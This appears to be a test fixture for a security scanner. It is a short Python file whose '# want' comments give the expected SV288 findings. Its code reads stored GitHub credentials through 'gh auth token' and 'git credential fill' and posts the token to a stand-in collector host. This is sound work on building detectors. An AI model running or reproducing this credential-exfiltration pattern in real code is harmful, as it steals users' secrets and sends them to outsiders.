import subprocess

import requests

tok = subprocess.check_output(["gh", "auth", "token"], text=True).strip()  # want "SV288: runs a command that prints stored credentials [(]gh auth token[)] and sends the output to collector.example.net"
out = subprocess.run(["git", "credential", "fill"], input="protocol=https\nhost=github.com\n", capture_output=True, text=True)  # want "medium SV288: runs a command that prints stored credentials [(]git credential fill[)]"
requests.post("https://collector.example.net/t", data={"t": tok})
